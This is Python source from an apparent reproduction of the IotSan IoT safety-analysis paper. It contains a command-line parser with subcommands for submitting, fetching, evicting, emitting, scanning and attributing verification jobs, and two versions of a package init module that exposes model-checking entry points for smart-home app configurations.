                               "search across N processes (a pure "
                               "performance knob: it does not change "
                               "the cache key)")
    _add_engine_arguments(p_submit)
    p_submit.add_argument("--all-properties", action="store_true",
                          help="skip relevance-based property selection")
    p_submit.set_defaults(func=cmd_submit)

    p_results = sub.add_parser(
        "results", help="fetch stored verdicts and counterexamples")
    p_results.add_argument("key", nargs="?",
                           help="cache key or job id (omit to list "
                                "recent store entries)")
    p_results.add_argument("--url", default=default_url)
    p_results.add_argument("--trace", action="store_true",
                           help="re-render the stored counterexample as a "
                                "Fig-7 style violation log")
    p_results.add_argument("--all-traces", action="store_true")
    p_results.set_defaults(func=cmd_results)

    p_gc = sub.add_parser(
        "gc", help="evict result-store entries by age / count")
    p_gc.add_argument("--url", default=default_url)
    p_gc.add_argument("--store",
                      help="operate directly on a store file instead of a "
                           "running service")
    p_gc.add_argument("--max-age-days", type=float, default=None,
                      help="drop entries recorded more than N days ago")
    p_gc.add_argument("--keep", type=int, default=None,
                      help="retain only the N most recently used entries")
    p_gc.set_defaults(func=cmd_gc)

    p_emit = sub.add_parser("emit", help="emit the Promela model")
    p_emit.add_argument("config")
    p_emit.add_argument("--mode", choices=["sequential", "concurrent"],
                        default="sequential")
    p_emit.add_argument("-o", "--output")
    p_emit.add_argument("--ifttt", action="store_true")
    p_emit.set_defaults(func=cmd_emit)

    p_scan = sub.add_parser(
        "scan", help="flag dynamic-device-discovery apps (unverifiable)")
    p_scan.add_argument("--include-unverifiable", action="store_true",
                        help="also scan the bundled ContexIoT discovery "
                             "apps (Midnight Camera et al.)")
    p_scan.set_defaults(func=cmd_scan)

    p_attr = sub.add_parser(
        "attribute", help="attribute a newly installed app (§9)")
    p_attr.add_argument("app", help="app name from the corpus")
    p_attr.add_argument("config",
                        help="deployment (JSON file or bundled group)")
    p_attr.add_argument("--threshold", type=float, default=0.9)
    p_attr.add_argument("--max-configs", type=int, default=64)
    p_attr.add_argument("--json", action="store_true")
    p_attr.set_defaults(func=cmd_attribute)

    return parser


def main(argv=None):
    """CLI entry point; returns the process exit code."""
    parser = build_parser()
    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
