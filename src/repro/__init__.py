"""IotSan reproduction: model-checking based safety analysis of IoT systems.

Reproduction of "IotSan: Fortifying the Safety of IoT Systems" (Nguyen et
al., CoNEXT 2018) as a pure-Python library.  The pipeline mirrors the
paper's five modules:

1. :mod:`repro.deps` - App Dependency Analyzer (§5);
2. :mod:`repro.groovy` / :mod:`repro.translator` - Translator (§6);
3. :mod:`repro.config` - Configuration Extractor (§7);
4. :mod:`repro.model` + :mod:`repro.properties` - Model Generator (§8);
5. :mod:`repro.checker` + :mod:`repro.attribution` - model checking and
   Output Analyzer (§9).

Quickstart::

    from repro import check_configuration
    from repro.config import SystemConfiguration

    config = SystemConfiguration(contacts=["+1-555-0100"])
    config.add_device("alicePresence", "smartsense-presence")
    config.add_device("doorLock", "zwave-lock")
    config.association["main_door_lock"] = "doorLock"
    config.add_app("Auto Mode Change", {"people": ["alicePresence"],
                                        "awayMode": "Away", "homeMode": "Home"})
    config.add_app("Unlock Door", {"lock1": "doorLock"})
    result = check_configuration(config)
    print(result.summary())
"""

from repro.engine import EngineOptions
from repro.engine import EngineOptions as ExplorerOptions  # compat alias

__version__ = "1.0.0"


def check_configuration(config, registry=None, properties=None,
                        relevant_only=True, enable_failures=False, **options):
    """Verify one system configuration end-to-end.

    ``registry`` defaults to the bundled corpus; ``properties`` defaults to
    the 45-property catalog (filtered for relevance unless
    ``relevant_only=False``).  Remaining keyword arguments become
    :class:`~repro.engine.EngineOptions` (``max_events``, ``mode``,
    ``visited``, ``strategy``, ...).  Returns an
    :class:`~repro.engine.ExplorationResult`.
    """
    from repro.engine import ExplorationEngine

    system = build_system(config, registry=registry,
                          enable_failures=enable_failures)
    if properties is None:
        from repro.properties import build_properties
        properties = build_properties()
    if relevant_only:
        from repro.properties import select_relevant
        properties = select_relevant(system, properties)
    engine = ExplorationEngine(system, properties, EngineOptions(**options))
    return engine.run()


def check_configurations(named_configs, workers=None, properties=None,
                         relevant_only=True, enable_failures=False,
                         **options):
    """Verify several independent configurations, in parallel.

    ``named_configs`` maps job names to configurations (or is an iterable
    of ``(name, config)`` pairs).  Fans the jobs across a process pool
    (:func:`repro.engine.verify_many`); returns a
    :class:`~repro.engine.BatchResult` with merged statistics.
    """
    from repro.engine import VerificationJob, verify_many

    if hasattr(named_configs, "items"):
        named_configs = named_configs.items()
    jobs = [VerificationJob(name, config, EngineOptions(**options),
                            properties=properties, select=relevant_only,
                            strict=False, enable_failures=enable_failures)
            for name, config in named_configs]
    return verify_many(jobs, workers=workers)


def build_system(config, registry=None, enable_failures=False):
    """Bind a configuration into an :class:`~repro.model.system.IoTSystem`."""
    from repro.corpus import load_all_apps
    from repro.model.generator import ModelGenerator

    if registry is None:
        registry = load_all_apps()
    return ModelGenerator(registry).build(config, strict=False,
                                          enable_failures=enable_failures)


__all__ = ["check_configuration", "check_configurations", "build_system",
           "EngineOptions", "ExplorerOptions", "__version__"]
