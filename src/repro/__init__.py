"""IotSan reproduction: model-checking based safety analysis of IoT systems.

Reproduction of "IotSan: Fortifying the Safety of IoT Systems" (Nguyen et
al., CoNEXT 2018) as a pure-Python library.  The pipeline mirrors the
paper's five modules:

1. :mod:`repro.deps` - App Dependency Analyzer (§5);
2. :mod:`repro.groovy` / :mod:`repro.translator` - Translator (§6);
3. :mod:`repro.config` - Configuration Extractor (§7);
4. :mod:`repro.model` + :mod:`repro.properties` - Model Generator (§8);
5. :mod:`repro.checker` + :mod:`repro.attribution` - model checking and
   Output Analyzer (§9).

Quickstart::

    from repro import check_configuration
    from repro.config import SystemConfiguration

    config = SystemConfiguration(contacts=["+1-555-0100"])
    config.add_device("alicePresence", "smartsense-presence")
    config.add_device("doorLock", "zwave-lock")
    config.association["main_door_lock"] = "doorLock"
    config.add_app("Auto Mode Change", {"people": ["alicePresence"],
                                        "awayMode": "Away", "homeMode": "Home"})
    config.add_app("Unlock Door", {"lock1": "doorLock"})
    result = check_configuration(config)
    print(result.summary())
"""

from repro.checker.explorer import ExplorerOptions

__version__ = "1.0.0"


def check_configuration(config, registry=None, properties=None,
                        relevant_only=True, enable_failures=False, **options):
    """Verify one system configuration end-to-end.

    ``registry`` defaults to the bundled corpus; ``properties`` defaults to
    the 45-property catalog (filtered for relevance unless
    ``relevant_only=False``).  Remaining keyword arguments become
    :class:`~repro.checker.explorer.ExplorerOptions` (``max_events``,
    ``mode``, ``visited``, ...).  Returns an
    :class:`~repro.checker.explorer.ExplorationResult`.
    """
    from repro.checker.explorer import Explorer

    system = build_system(config, registry=registry,
                          enable_failures=enable_failures)
    if properties is None:
        from repro.properties import build_properties
        properties = build_properties()
    if relevant_only:
        from repro.properties import select_relevant
        properties = select_relevant(system, properties)
    explorer = Explorer(system, properties, ExplorerOptions(**options))
    return explorer.run()


def build_system(config, registry=None, enable_failures=False):
    """Bind a configuration into an :class:`~repro.model.system.IoTSystem`."""
    from repro.corpus import load_all_apps
    from repro.model.generator import ModelGenerator

    if registry is None:
        registry = load_all_apps()
    return ModelGenerator(registry).build(config, strict=False,
                                          enable_failures=enable_failures)


__all__ = ["check_configuration", "build_system", "ExplorerOptions",
           "__version__"]
